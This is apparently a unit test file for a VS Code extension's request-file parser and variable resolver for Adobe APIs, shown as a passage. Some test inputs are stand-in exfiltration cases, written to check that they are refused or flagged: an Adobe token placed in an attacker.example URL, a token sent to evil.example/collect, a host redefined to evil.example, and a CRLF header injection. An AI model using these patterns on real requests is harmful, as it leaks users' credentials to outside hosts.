/** Issues #11 and #16: the request-file parser (REST Client's subset, linear in its input), its warnings and its two-phase variable resolution. */
import * as assert from 'node:assert/strict';
import { ParsedRequestFile, parseRequestFile, redefinedVariables, references, requestAt } from '../../../src/core/requests/parse';
import { AdobeEndpointName, BuiltinValues, requestHost, resolveRequest } from '../../../src/core/requests/resolve';
import { assertNoLeak, rejection } from '../helpers';
import { assertLinear } from '../linear';

const TOKEN = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ0ZXN0In0.c2lnbmF0dXJlLXRva2Vu';
const CLIENT_ID = '4f9c6a1e2b7d4c3a9e8f0a1b2c3d4e5f';
const ENDPOINTS: Record<AdobeEndpointName, string> = {
	ims: 'http://127.0.0.1:4010',
	photoshop: 'http://127.0.0.1:4010/',
	cloudStorage: 'http://127.0.0.1:4010/v1',
	firefly: 'http://127.0.0.1:4010',
	photoshopV2: 'http://127.0.0.1:4010',
};

/** Built-ins that record every call, so tests can see what was asked for and when. */
function builtins(calls: string[] = []): BuiltinValues {
	return {
		async token(profile, signal) {
			calls.push(`token:${profile ?? ''}`);
			assert.ok(!signal?.aborted);
			return profile ? `${TOKEN}-${profile.replace(/\s/g, '_')}` : TOKEN;
		},
		async clientId(profile) {
			calls.push(`clientId:${profile ?? ''}`);
			return profile ? `${CLIENT_ID}-other` : CLIENT_ID;
		},
		endpoint(name) {
			return ENDPOINTS[name];
		},
	};
}

const allow = async () => undefined;

/** Parses `text` (expecting no problems) and resolves its request at `line`. */
async function resolve(text: string, line?: number, values = builtins(), checkOrigin: (url: URL) => Promise<void> = allow) {
	const file = parseRequestFile(text);
	assert.deepEqual(file.problems, []);
	const request = requestAt(file, line);
	assert.ok(request, 'a request');
	return resolveRequest(file, request, values, checkOrigin);
}

function problemsOf(text: string): string[] {
	return parseRequestFile(text).problems.map((p) => p.message);
}

describe('request files: parsing', () => {
	it('reads requests separated by ###, with names, comments, headers and bodies', () => {
		const text = [
			'# A comment',
			'// Another comment',
			'@base = https://image.adobe.io',
			'',
			'### Say hello',
			'# @name hello',
			'GET {{base}}/pie/psdService/hello HTTP/1.1',
			'Authorization: Bearer {{$adobeToken}}',
			'# a comment between headers',
			'x-api-key: {{$adobeClientId}}',
			'',
			'###',
			'// @name generate',
			'POST https://firefly-api.adobe.io/v3/images/generate-async',
			'Content-Type: application/json',
			'',
			'{',
			'  "prompt": "{{prompt}}"',
			'}',
			'',
			'',
			'### The last block',
			'https://cloudstorage.adobe.io/v1/projects',
		].join('\n');
		const file = parseRequestFile(text);
		assert.deepEqual(file.problems, []);
		assert.deepEqual(file.variables, [{ name: 'base', value: 'https://image.adobe.io', line: 2 }]);
		assert.equal(file.requests.length, 3);
		const [hello, generate, list] = file.requests;
		assert.deepEqual(
			{
				name: hello.name,
				method: hello.method,
				url: hello.url,
				httpVersion: hello.httpVersion,
				line: hello.line,
				startLine: hello.startLine,
				endLine: hello.endLine,
				body: hello.body,
			},
			{
				name: 'hello',
				method: 'GET',
				url: '{{base}}/pie/psdService/hello',
				httpVersion: 'HTTP/1.1',
				line: 6,
				startLine: 5,
				endLine: 10,
				body: undefined,
			},
		);
		assert.deepEqual(hello.headers, [
			{ name: 'Authorization', value: 'Bearer {{$adobeToken}}', line: 7 },
			{ name: 'x-api-key', value: '{{$adobeClientId}}', line: 9 },
		]);
		assert.equal(generate.name, 'generate');
		assert.equal(generate.method, 'POST');
		assert.equal(generate.body, '{\n  "prompt": "{{prompt}}"\n}', 'the body ends at ###, trailing blank lines trimmed');
		assert.equal(generate.bodyLine, 16);
		assert.deepEqual([generate.startLine, generate.endLine], [12, 20]);
		assert.deepEqual(
			[list.method, list.url, list.name, list.httpVersion],
			['GET', 'https://cloudstorage.adobe.io/v1/projects', undefined, undefined],
			'a bare URL is a GET',
		);
	});

	it('joins query continuation lines to the URL, and reads any method case as upper-case', () => {
		const file = parseRequestFile(
			'get https://cloudstorage.adobe.io/v1/projects\n    ?limit=10\n    &orderBy={{order}}\nAccept: application/json\n',
		);
		assert.deepEqual(file.problems, []);
		const [request] = file.requests;
		assert.equal(request.method, 'GET');
		assert.equal(request.url, 'https://cloudstorage.adobe.io/v1/projects?limit=10&orderBy={{order}}');
		assert.deepEqual(
			request.urlParts.map((p) => p.line),
			[0, 1, 2],
		);
		assert.deepEqual(request.headers, [{ name: 'Accept', value: 'application/json', line: 3 }]);
	});

	it('reads CRLF and CR line endings like LF', () => {
		const lf =
			'@a = 1\n###\n# @name x\nPOST https://image.adobe.io/x?a={{a}} HTTP/1.1\nContent-Type: application/json\n\n{"a": 1}\n\n###\nGET https://image.adobe.io/y\n';
		const crlf = parseRequestFile(lf.replace(/\n/g, '\r\n'));
		const cr = parseRequestFile(lf.replace(/\n/g, '\r'));
		assert.deepEqual(crlf, parseRequestFile(lf));
		assert.deepEqual(cr, parseRequestFile(lf));
		assert.equal(crlf.requests[0].body, '{"a": 1}', 'no \\r left in the body');
		assert.equal(crlf.requests[0].headers[0].value, 'application/json');
	});

	it('keeps variable values raw and lets a later definition win', async () => {
		const file = parseRequestFile(
			'@host=image.adobe.io\n@path = /pie/{{kind}}  \n@kind = first\n@kind = psdService\nGET https://{{host}}{{path}}/hello',
		);
		assert.deepEqual(
			file.variables.map((v) => [v.name, v.value, v.line]),
			[
				['host', 'image.adobe.io', 0],
				['path', '/pie/{{kind}}', 1],
				['kind', 'first', 2],
				['kind', 'psdService', 3],
			],
		);
		const resolved = await resolveRequest(file, file.requests[0], builtins(), allow);
		assert.equal(resolved.url, 'https://image.adobe.io/pie/psdService/hello');
	});

	it('finds the request at a line: its block, else the next one below, else none', () => {
		const file = parseRequestFile(
			'@a = 1\n\n###\n# @name one\nGET https://image.adobe.io/1\n\n###\n# only a comment\n###\nGET https://image.adobe.io/2\n',
		);
		const urls = (line?: number) => requestAt(file, line)?.url;
		assert.equal(urls(), 'https://image.adobe.io/1');
		assert.equal(urls(0), 'https://image.adobe.io/1', 'the variables above the first request');
		assert.equal(urls(2), 'https://image.adobe.io/1', 'a separator line');
		assert.equal(urls(5), 'https://image.adobe.io/1');
		assert.equal(urls(7), 'https://image.adobe.io/2', 'a block without a request');
		assert.equal(urls(9), 'https://image.adobe.io/2');
		assert.equal(urls(10), 'https://image.adobe.io/2', 'the trailing empty line belongs to the last block');
		assert.equal(urls(11), undefined);
		const broken = parseRequestFile(
			'GET https://image.adobe.io/1\n###\nGE(T https://image.adobe.io/x\n###\nGET https://image.adobe.io/2\n',
		);
		assert.equal(requestAt(broken, 2), undefined, 'a line in a malformed block does not run the request below it');
		assert.equal(requestAt(broken, 3)?.url, 'https://image.adobe.io/2');
		assert.equal(requestAt(parseRequestFile('# nothing\n'), undefined), undefined);
	});

	it('names the 1-based line of every malformed construct', () => {
		const cases: Array<[string, RegExp]> = [
			// Any RFC 9110 token is a method (test/unit/requests/parity/methods.test.ts); "GE(T" is none.
			['\n\nGE(T https://image.adobe.io/x', /^Line 3: the request line should be "METHOD URL \[HTTP\/1\.1\]"/],
			['POST', /^Line 1: POST needs a URL after it\.$/],
			['GET https://image.adobe.io/a b', /^Line 1: the request line should be "METHOD URL \[HTTP\/1\.1\]"; a URL cannot contain spaces/],
			['GET https://image.adobe.io/x\n?a=1 2', /^Line 2: a query line cannot contain spaces/],
			[
				'GET https://image.adobe.io/x\nAuthorization Bearer x',
				/^Line 2: this is not a header \("Name: value"\)\. Leave a blank line between the headers and the body\.$/,
			],
			['POST https://image.adobe.io/x\nContent-Type: application/json\n{"a": 1}', /^Line 3: this is not a header/],
			['@ = value\nGET https://image.adobe.io/x', /^Line 1: a file variable needs a name: "@name = value"\.$/],
			['@=value', /^Line 1: a file variable needs a name/],
			['@token\nGET https://image.adobe.io/x', /^Line 1: the file variable "@token" needs "=" and a value/],
			['@1abc = x', /^Line 1: "@1abc" is not a valid variable name/],
			[
				'GET https://image.adobe.io/x\n@late = 1',
				/^Line 2: a file variable cannot come after the request line: put it above the request, or in its own block after ###\.$/,
			],
			['GET https://image.adobe.io/{{base', /^Line 1: a "\{\{" is not closed with "\}\}" on the same line\.$/],
			['GET https://image.adobe.io/x\nx-api-key: {{$adobeClientId', /^Line 2: a "\{\{" is not closed/],
			['POST https://image.adobe.io/x\n\n{"a": "{{name"}\n', /^Line 3: a "\{\{" is not closed/],
			['@a = {{b\n', /^Line 1: a "\{\{" is not closed/],
			[
				'# @name one\nGET https://image.adobe.io/1\n###\n# @name one\nGET https://image.adobe.io/2',
				/^Line 4: the name "one" is already used on line 1\.$/,
			],
			['# @name\nGET https://image.adobe.io/1', /^Line 1: "@name" needs a name/],
			['# @name two words\nGET https://image.adobe.io/1', /^Line 1: "@name" needs a name/],
		];
		for (const [text, expected] of cases) {
			const problems = problemsOf(text);
			assert.equal(problems.length, 1, `${text}: ${problems.join(' | ')}`);
			assert.match(problems[0], expected, text);
		}
		const file = parseRequestFile('GET https://image.adobe.io/x\n\n###\nGE(T x\n');
		assert.equal(file.problems[0].line, 3, 'problems carry the 0-based line');
		assert.equal(file.requests.length, 1, 'the malformed request is left out, the good one kept');
	});

	it('keeps # lines, "<" and "{{…}}" in a body as text, and HTTP/2 on the request line', () => {
		const file = parseRequestFile('POST https://image.adobe.io/x HTTP/2\n\n# not a comment\n  < not a file\n{{a}}\n');
		assert.deepEqual(file.problems, []);
		assert.equal(file.requests[0].httpVersion, 'HTTP/2');
		assert.equal(file.requests[0].body, '# not a comment\n  < not a file\n{{a}}');
	});
});

describe('request files: resolving variables', () => {
	it('substitutes file variables (also through other variables) and built-ins in URL, headers and body', async () => {
		const text = [
			'@ps = {{$adobeEndpoint photoshop}}',
			'@hello = {{ps}}/pie/psdService/hello',
			'@auth = Bearer {{$adobeToken}}',
			'@prompt = a cat',
			'POST {{hello}}',
			'  ?id={{$guid}}',
			'  &at={{$timestamp}}&n={{$randomInt 5 6}}&cs={{ $adobeEndpoint cloudStorage }}',
			'Authorization: {{auth}}',
			'x-api-key: {{$adobeClientId}}',
			'',
			'{"prompt": "{{prompt}}", "key": "{{$adobeClientId}}"}',
		].join('\n');
		const before = Math.floor(Date.now() / 1000);
		const resolved = await resolve(text);
		const url = new URL(resolved.url);
		assert.equal(url.origin + url.pathname, 'http://127.0.0.1:4010/pie/psdService/hello', 'the endpoint has no trailing slash');
		assert.match(url.searchParams.get('id') as string, /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
		const at = Number(url.searchParams.get('at'));
		assert.ok(at >= before && at <= before + 2, `timestamp ${at}`);
		assert.equal(url.searchParams.get('n'), '5', '$randomInt excludes max');
		assert.equal(url.searchParams.get('cs'), 'http://127.0.0.1:4010/v1');
		assert.deepEqual(resolved.headers, [
			{ name: 'Authorization', value: `Bearer ${TOKEN}` },
			{ name: 'x-api-key', value: CLIENT_ID },
		]);
		assert.equal(resolved.body, `{"prompt": "a cat", "key": "${CLIENT_ID}"}`);
		assert.equal(resolved.method, 'POST');
		assert.equal(resolved.usesCredentials, true);
		assert.deepEqual(resolved.secrets.sort(), [CLIENT_ID, TOKEN].sort());
	});

	it('shows the variable text, not the value, in the display form', async () => {
		// IMS is the one API that takes a token in its body (validate, revoke).
		const resolved = await resolve(
			'@auth = Bearer {{$adobeToken}}\nPOST https://ims-na1.adobelogin.com/ims/validate_token/v1\nAuthorization: {{auth}}\nx-api-key: {{$adobeClientId}}\n\n{"token": "{{$adobeToken Other Profile}}"}',
		);
		assert.deepEqual(resolved.display, {
			method: 'POST',
			url: 'https://ims-na1.adobelogin.com/ims/validate_token/v1',
			headers: [
				{ name: 'Authorization', value: 'Bearer {{$adobeToken}}' },
				{ name: 'x-api-key', value: '{{$adobeClientId}}' },
			],
			body: '{"token": "{{$adobeToken Other Profile}}"}',
		});
		assertNoLeak([TOKEN, CLIENT_ID], resolved.display);
		assert.equal(resolved.body, `{"token": "${TOKEN}-Other_Profile"}`, 'the named profile is asked for');
	});

	it('refuses the token in a body to any API but IMS (a job would pass it on to the hosts its body names), before asking for it', async () => {
		const calls: string[] = [];
		const body =
			'@src = https://attacker.example/x.psd?t={{$adobeToken}}\nPOST https://photoshop-api.adobe.io/v2/create-composite\nAuthorization: Bearer {{$adobeToken}}\n\n{"image": {"source": {"url": "{{src}}"}}}';
		const error = await rejection(resolve(body, undefined, builtins(calls)));
		assert.equal(
			error.message,
			'Line 5: {{$adobeToken}} can be sent in a header (Authorization: Bearer {{$adobeToken}}), not in the body: an API can pass what its body names on to other hosts. Only Adobe IMS takes a token in its body.',
		);
		assert.deepEqual(calls, [], 'a credential was asked for');
		// The Client ID (an API key, not a secret) may be in a body; the configured IMS (here the emulator's) takes the token.
		await resolve('POST https://photoshop-api.adobe.io/v2/x\n\n{"client": "{{$adobeClientId}}"}');
		const ims = await resolve(`POST ${ENDPOINTS.ims}/ims/revoke\nContent-Type: application/x-www-form-urlencoded\n\ntoken={{$adobeToken}}`);
		assert.equal(ims.body, `token=${TOKEN}`);
	});

	it('refuses file variables that expand past a size bound, so a CodeLens cannot build a huge URL', async () => {
		const big = 'a'.repeat(300_000);
		const text = `@a = ${big}\n@b = {{a}}{{a}}{{a}}{{a}}{{a}}{{a}}{{a}}{{a}}\nGET https://photoshop-api.adobe.io/{{b}}`;
		const started = performance.now();
		const error = await rejection(resolve(text));
		assert.match(error.message, /^Line 2: the file variables expand to more than 2,000,000 characters for this request; simplify them\.$/);
		assert.ok(performance.now() - started < 1000, 'refused at once');
	});

	it('$timestamp takes an offset and unit', async () => {
		const resolved = await resolve('GET https://image.adobe.io/x?t={{$timestamp -1 d}}');
		const t = Number(new URL(resolved.url).searchParams.get('t'));
		const expected = Math.floor(Date.now() / 1000) - 86400;
		assert.ok(Math.abs(t - expected) <= 2, `${t} vs ${expected}`);
		const nextYear = await resolve('GET https://image.adobe.io/x?t={{$timestamp 1 y}}&q={{$timestamp -2 Q}}');
		const params = new URL(nextYear.url).searchParams;
		const inAYear = new Date();
		inAYear.setUTCFullYear(inAYear.getUTCFullYear() + 1);
		assert.ok(Math.abs(Number(params.get('t')) - inAYear.getTime() / 1000) <= 2, 'a calendar year');
		const halfAYearAgo = new Date();
		halfAYearAgo.setUTCMonth(halfAYearAgo.getUTCMonth() - 6);
		assert.ok(Math.abs(Number(params.get('q')) - halfAYearAgo.getTime() / 1000) <= 2, 'two quarters');
	});

	it('checks the origin after phase 1 and before any credential is asked for', async () => {
		const calls: string[] = [];
		const resolved = await resolve(
			'@ps = {{$adobeEndpoint photoshop}}\nGET {{ps}}/pie/psdService/hello\nAuthorization: Bearer {{$adobeToken}}\nx-api-key: {{$adobeClientId}}\nX-Also: {{$adobeToken}}',
			undefined,
			builtins(calls),
			async (url) => {
				calls.push(`checkOrigin:${url.href}`);
			},
		);
		assert.deepEqual(
			calls,
			['checkOrigin:http://127.0.0.1:4010/pie/psdService/hello', 'token:', 'clientId:'],
			'each distinct credential once, after the check',
		);
		assert.equal(resolved.headers[2].value, TOKEN);
	});

	it('asks for nothing when the origin check refuses', async () => {
		const calls: string[] = [];
		const refusal = new Error('Refused: evil.example');
		const file = parseRequestFile('GET https://evil.example/collect\nAuthorization: Bearer {{$adobeToken}}');
		await assert.rejects(
			resolveRequest(file, file.requests[0], builtins(calls), async () => {
				throw refusal;
			}),
			(error) => error === refusal,
		);
		assert.deepEqual(calls, []);
	});

	it('does not call checkOrigin when no credential is used', async () => {
		let checked = 0;
		const calls: string[] = [];
		const resolved = await resolve('@x = {{$adobeToken}}\nGET https://example.com/x\nAccept: */*', undefined, builtins(calls), async () => {
			checked++;
		});
		assert.equal(checked, 0, 'an unused file variable with a credential does not count');
		assert.deepEqual(calls, []);
		assert.deepEqual([resolved.usesCredentials, resolved.secrets], [false, []]);
	});

	it('stops before asking for the token when cancelled during the origin check', async () => {
		const calls: string[] = [];
		const controller = new AbortController();
		const file = parseRequestFile('GET https://image.adobe.io/x\nAuthorization: Bearer {{$adobeToken}}');
		const error = await rejection(
			resolveRequest(
				file,
				file.requests[0],
				builtins(calls),
				async () => {
					controller.abort();
				},
				controller.signal,
			),
		);
		assert.equal(error.kind, 'cancelled');
		assert.deepEqual(calls, []);
	});

	it('refuses credential variables in the URL, directly or through a file variable, naming the line', async () => {
		for (const [text, line] of [
			['GET https://image.adobe.io/x?token={{$adobeToken}}', 1],
			['@key = {{$adobeClientId}}\nGET https://image.adobe.io/x\n  ?api_key={{key}}', 3],
		] as const) {
			const calls: string[] = [];
			let checked = false;
			const file = parseRequestFile(text);
			const error = await rejection(
				resolveRequest(file, file.requests[0], builtins(calls), async () => {
					checked = true;
				}),
			);
			assert.equal(error.kind, 'invalidInput');
			assert.equal(
				error.message,
				`Line ${line}: {{$adobeToken}} and {{$adobeClientId}} cannot be used in the URL (URLs end up in logs and proxies); send them in a header.`,
			);
			assert.deepEqual([calls, checked], [[], false]);
		}
	});

	it('names the line and the variable when a variable is unknown', async () => {
		const cases: Array<[string, string]> = [
			[
				'GET https://image.adobe.io/{{missing}}',
				'Line 1: {{missing}} is not defined: not a file variable (define it with "@missing = value"), no environment is selected.',
			],
			[
				'@a = {{b}}\n\nGET https://image.adobe.io/{{a}}',
				'Line 1: {{b}} is not defined: not a file variable (define it with "@b = value"), no environment is selected.',
			],
			[
				'GET https://image.adobe.io/x\nX-Id: {{$uuid}}',
				'Line 2: {{$uuid}} is not a built-in variable this extension knows (use $adobeToken, $adobeClientId, $adobeEndpoint, $guid, $timestamp, $datetime, $localDatetime, $randomInt, $processEnv or $dotenv).',
			],
			[
				'GET {{login.response.body.$.url}}',
				'Line 1: {{login.response.body.$.url}} is not defined: not a file variable, no environment is selected, no request in this file is named "login" (# @name login).',
			],
			[
				'GET {{$adobeEndpoint lightroom}}/v3',
				'Line 1: {{$adobeEndpoint lightroom}} is unknown; use {{$adobeEndpoint ims|photoshop|cloudStorage|firefly|photoshopV2}}.',
			],
			[
				'GET {{$adobeEndpoint}}/v3',
				'Line 1: {{$adobeEndpoint}} needs one of ims, photoshop, cloudStorage, firefly, photoshopV2, e.g. {{$adobeEndpoint photoshop}}.',
			],
			[
				'GET https://image.adobe.io/{{$randomInt 5 5}}',
				'Line 1: {{$randomInt 5 5}} should be {{$randomInt min max}} with whole numbers, min < max (max is excluded).',
			],
			[
				'GET https://image.adobe.io/{{$timestamp 1 fortnight}}',
				'Line 1: {{$timestamp 1 fortnight}} should be {{$timestamp}} or {{$timestamp offset unit}} with a whole offset and a unit of ms, s, m, h, d, w, M, Q, y.',
			],
		];
		for (const [text, message] of cases) {
			const file = parseRequestFile(text);
			const error = await rejection(resolveRequest(file, file.requests[0], builtins(), allow));
			assert.deepEqual([error.kind, error.message], ['invalidInput', message], text);
		}
	});

	it('detects cycles among file variables and bounds a doubling chain', async () => {
		for (const [text, message] of [
			[
				'@a = {{b}}\n@b = x{{c}}\n@c = {{a}}\nGET https://image.adobe.io/{{a}}',
				'Line 1: the file variables refer to each other in a loop: @a → @b → @c → @a.',
			],
			['@self = {{self}}\nGET https://image.adobe.io/{{self}}', 'Line 1: the file variables refer to each other in a loop: @self → @self.'],
		]) {
			const file = parseRequestFile(text);
			const error = await rejection(resolveRequest(file, file.requests[0], builtins(), allow));
			assert.equal(error.message, message);
		}
		const doubling = [
			'@v0 = x',
			...Array.from({ length: 30 }, (_, i) => `@v${i + 1} = {{v${i}}}{{v${i}}}`),
			'GET https://image.adobe.io/{{v30}}',
		].join('\n');
		const file = parseRequestFile(doubling);
		const error = await rejection(resolveRequest(file, file.requests[0], builtins(), allow));
		assert.match(error.message, /^Line \d+: the file variables are expanded more than 1000 times for this request; simplify them\.$/);
		const diamond = await resolve('@a = {{b}}{{b}}\n@b = {{c}}\n@c = x\nGET https://image.adobe.io/{{a}}');
		assert.equal(diamond.url, 'https://image.adobe.io/xx', 'a variable used twice is not a cycle');
	});

	it('requires an absolute http(s) URL once variables are replaced', async () => {
		for (const [text, message] of [
			[
				'GET /pie/psdService/hello',
				'Line 1: the URL is not an absolute URL once its variables are replaced; start it with https:// or {{$adobeEndpoint …}}.',
			],
			['@u = ftp://image.adobe.io\n\nGET {{u}}/x', 'Line 3: the URL must start with https:// or http://, not ftp://.'],
		]) {
			const file = parseRequestFile(text);
			const error = await rejection(resolveRequest(file, file.requests[0], builtins(), allow));
			assert.equal(error.message, message);
		}
	});

	it("refuses a request whose block has a problem, but not because of another block's", async () => {
		const file = parseRequestFile('GET https://image.adobe.io/1\nbroken header\n###\nGET https://image.adobe.io/2\n');
		const error = await rejection(resolveRequest(file, file.requests[0], builtins(), allow));
		assert.equal(error.message, 'Line 2: this is not a header ("Name: value"). Leave a blank line between the headers and the body.');
		assert.equal((await resolveRequest(file, file.requests[1], builtins(), allow)).url, 'https://image.adobe.io/2');
		const variable = parseRequestFile('@a = x{{b\n###\nGET https://image.adobe.io/{{a}}\n###\nGET https://image.adobe.io/fine');
		const used = await rejection(resolveRequest(variable, variable.requests[0], builtins(), allow));
		assert.equal(
			used.message,
			'Line 1: a "{{" is not closed with "}}" on the same line.',
			'a malformed variable is refused where it is used',
		);
		assert.equal((await resolveRequest(variable, variable.requests[1], builtins(), allow)).url, 'https://image.adobe.io/fine');
	});

	it('refuses a credential whose value would break a header line, without quoting it', async () => {
		const values: BuiltinValues = { ...builtins(), token: async () => `${TOKEN}\r\nX-Injected: 1` };
		const file = parseRequestFile('GET https://image.adobe.io/x\nAuthorization: Bearer {{$adobeToken}}');
		const error = await rejection(resolveRequest(file, file.requests[0], values, allow));
		assert.equal(error.message, 'Line 2: the value of Authorization contains a line break once its variables are replaced.');
		assertNoLeak([TOKEN], error);
	});

	it('never quotes a credential in its errors', async () => {
		const file: ParsedRequestFile = parseRequestFile(
			'@t = {{$adobeToken}}\nGET https://image.adobe.io/x\nAuthorization: Bearer {{t}}\nX-Bad: {{nope}}',
		);
		const calls: string[] = [];
		const error = await rejection(resolveRequest(file, file.requests[0], builtins(calls), allow));
		assert.equal(
			error.message,
			'Line 4: {{nope}} is not defined: not a file variable (define it with "@nope = value"), no environment is selected.',
		);
		assert.deepEqual(calls, [], 'phase 1 fails before any credential is asked for');
	});
});

describe('request files: redefined variables', () => {
	it('warns on both lines of a variable defined twice, naming the other line and the value used', () => {
		const text = [
			'@host = https://photoshop-api.adobe.io',
			'@other = 1',
			'',
			'GET {{host}}/v2/status/1',
			'',
			'###',
			'@host = https://evil.example',
		].join('\n');
		const file = parseRequestFile(text);
		assert.deepEqual(file.problems, [], 'a redefinition does not stop a send');
		assert.deepEqual(redefinedVariables(file), [
			{
				line: 0,
				otherLine: 6,
				message: 'Line 1: "@host" is redefined on line 7; every request in this file uses the value from line 7: "https://evil.example".',
			},
			{
				line: 6,
				otherLine: 0,
				message: 'Line 7: "@host" redefines the variable from line 1; every request in this file uses this value: "https://evil.example".',
			},
		]);
	});

	it('chains three definitions and cuts a long value', () => {
		const long = `https://x.example/${'a'.repeat(200)}`;
		const warnings = redefinedVariables(parseRequestFile(['@v = 1', '@v = 2', `@v = ${long}`, 'GET https://x.example/{{v}}'].join('\n')));
		assert.deepEqual(
			warnings.map((w) => w.line),
			[0, 1, 2],
		);
		assert.match(
			warnings[0].message,
			/^Line 1: "@v" is redefined on line 2; every request in this file uses the value from line 3: "https:\/\/x\.example\/a+…"\.$/,
		);
		assert.match(warnings[1].message, /^Line 2: "@v" is redefined on line 3;/);
		assert.match(
			warnings[2].message,
			/^Line 3: "@v" redefines the variable from line 2; every request in this file uses this value: "https:/,
		);
		assert.ok(warnings.every((w) => w.message.length < 250));
	});

	it('says nothing when every variable is defined once, and what it says matches what is sent', async () => {
		assert.deepEqual(redefinedVariables(parseRequestFile('@a = 1\n@b = 2\nGET https://x.example/{{a}}{{b}}')), []);
		const resolved = await resolve('@host = https://a.example\nGET {{host}}/x\n\n###\n@host = https://b.example');
		assert.equal(resolved.url, 'https://b.example/x', 'the last definition wins, as the warning says');
	});
});

describe('request files: the host a CodeLens names', () => {
	const endpoint = (name: AdobeEndpointName) => ({ ...ENDPOINTS, photoshopV2: 'https://photoshop-api.adobe.io/' })[name];
	const hostOf = async (text: string) => {
		const file = parseRequestFile(text);
		return requestHost(file, file.requests[0], endpoint);
	};

	it('resolves file variables and {{$adobeEndpoint …}} from the settings, and asks for no credential', async () => {
		const calls: string[] = [];
		const values = builtins(calls);
		const text = `@base = {{$adobeEndpoint photoshopV2}}\nPOST {{base}}/v2/create-composite\nAuthorization: Bearer {{$adobeToken}}\nx-api-key: {{$adobeClientId}}\n\n{"k": "{{$adobeClientId}}"}`;
		const file = parseRequestFile(text);
		assert.equal(await requestHost(file, file.requests[0], values.endpoint), '127.0.0.1:4010');
		assert.equal(await requestHost(file, file.requests[0], endpoint), 'photoshop-api.adobe.io');
		assert.deepEqual(calls, [], 'no token or Client ID was asked for');
		assert.equal(await hostOf('GET https://x.example:8443/a?b={{$guid}}'), 'x.example:8443');
	});

	it('names the host a redefinition far below sends to', async () => {
		assert.equal(
			await hostOf(
				'@host = https://photoshop-api.adobe.io\nGET {{host}}/v2/status/1\nAuthorization: Bearer {{$adobeToken}}\n\n###\n\n\n@host = https://evil.example',
			),
			'evil.example',
		);
	});

	it('gives nothing when the URL does not resolve without fetching', async () => {
		assert.equal(await hostOf('GET {{nowhere}}/x'), undefined);
		assert.equal(await hostOf('GET {{$adobeEndpoint nothing}}/x'), undefined);
		assert.equal(await hostOf('GET /relative/path'), undefined);
		const file = parseRequestFile('GET {{$adobeEndpoint photoshop}}/x');
		const broken = () => {
			throw new Error('invalid settings');
		};
		assert.equal(await requestHost(file, file.requests[0], broken), undefined);
	});
});

describe('request files: reading each construct as the patterns did', () => {
	it('finds the {{…}} references /\\{\\{(.*?)\\}\\}/g finds, on every short string of braces, letters, spaces and separators', () => {
		const alphabet = ['{', '}', 'a', ' ', '\u2028'];
		const pattern = /\{\{(.*?)\}\}/g;
		let checked = 0;
		// Every string of up to 7 characters over the alphabet: 97,655 of them.
		const visit = (text: string): void => {
			const expected = [...text.matchAll(pattern)].map((m) => ({ index: m.index as number, length: m[0].length, inner: m[1] }));
			assert.deepEqual(references(text), expected, JSON.stringify(text));
			checked++;
			if (text.length < 7) for (const c of alphabet) visit(text + c);
		};
		visit('');
		assert.equal(checked, 97_656);
	});

	it('reads request lines, headers, variables and @name tags as before', () => {
		const file = parseRequestFile(
			[
				'# @name  first ',
				'get   https://x.example/a   http/2',
				'Content-Type :  application/json  ',
				'x-b:',
				'',
				'###',
				'# @named is a comment',
				'@v=1',
				'@w =  2 ',
				'https://x.example/b HTTP/1.1',
				'###',
				'POST https://x.example/c',
			].join('\n'),
		);
		assert.deepEqual(file.problems, []);
		assert.deepEqual(file.variables, [
			{ name: 'v', value: '1', line: 7 },
			{ name: 'w', value: '2', line: 8 },
		]);
		const [a, b, c] = file.requests;
		assert.deepEqual([a.name, a.method, a.url, a.httpVersion], ['first', 'GET', 'https://x.example/a', 'HTTP/2']);
		assert.deepEqual(
			a.headers.map((h) => [h.name, h.value]),
			[
				['Content-Type', 'application/json'],
				['x-b', ''],
			],
		);
		assert.deepEqual([b.name, b.method, b.url, b.httpVersion], [undefined, 'GET', 'https://x.example/b', 'HTTP/1.1']);
		assert.deepEqual([c.method, c.url, c.httpVersion], ['POST', 'https://x.example/c', undefined]);
	});

	it('refuses what the patterns refused: a U+2028 inside a header value, a request line or a variable value', () => {
		assert.match(problemsOf('GET https://x.example\nx-a: 1\u20282')[0], /^Line 2: this is not a header/);
		assert.match(problemsOf('GET https://x.example/a\u2028b')[0], /^Line 1: the request line should be/);
		assert.match(problemsOf('@v = a\u2028b\nGET https://x.example')[0], /^Line 1: the value of "@v" contains a U\+2028 or U\+2029/);
		assert.match(problemsOf('# @name a\u2028b\nGET https://x.example').join(' '), /^$/, 'not a name tag: a comment, as before');
		assert.equal(parseRequestFile('# @name a\u2028b\nGET https://x.example').requests[0].name, undefined);
	});
});

describe('request files: parsing stays linear in its input', function () {
	// Generous: the measurement itself is fast, but a loaded 2-core machine can stall any run.
	this.timeout(120_000);

	/** Adversarial inputs of size about n: each defeated one of the parser's old patterns. */
	const CASES: Array<{ name: string; make: (n: number) => string }> = [
		{ name: 'a whitespace run inside a request line (HTTP_VERSION)', make: (n) => `GET https://x.example/a${' '.repeat(n)}b` },
		{
			name: 'whitespace runs before and after a request line, then a version',
			make: (n) => `${' '.repeat(n)}GET https://x.example/a${' \t'.repeat(n / 2)}HTTP/1.1${' '.repeat(n)}`,
		},
		{ name: 'unclosed {{ on a request line (REFERENCE)', make: (n) => `GET https://x.example/${'{{'.repeat(n / 2)}` },
		{ name: 'unclosed {{ in a query line', make: (n) => `GET https://x.example/\n?a=${'{{'.repeat(n / 2)}` },
		{ name: '{{ split by separators, closed at the end', make: (n) => `GET https://x.example/${'{{\u2028'.repeat(n / 3)}}}` },
		{ name: 'a header value: blanks, then a separator', make: (n) => `GET https://x.example\nx-a:${' '.repeat(n)}b\u2028c` },
		{
			name: 'a header name: blanks before the colon, many times',
			make: (n) => `GET https://x.example\nx-a${' \t'.repeat(n / 2)}b:${' '.repeat(n)}`,
		},
		{ name: 'a variable: spaces around a missing "="', make: (n) => `@v${' '.repeat(n)}b\u2028c\nGET https://x.example` },
		{ name: 'an @name tag: spaces, then a separator', make: (n) => `# @name${' '.repeat(n)}b\u2028\nGET https://x.example` },
		{ name: 'a method, spaces, then a separator', make: (n) => `GET${' '.repeat(n)}b\u2028c` },
		{ name: 'thousands of request lines with unclosed {{', make: (n) => `GET https://x.example/{{a{{b{{\n`.repeat(n / 30) },
	];

	for (const { name, make } of CASES) {
		it(`doubling the input about doubles the time: ${name}`, async () => {
			// Inputs of tens of thousands of characters: a quadratic parse of them takes a second, a linear
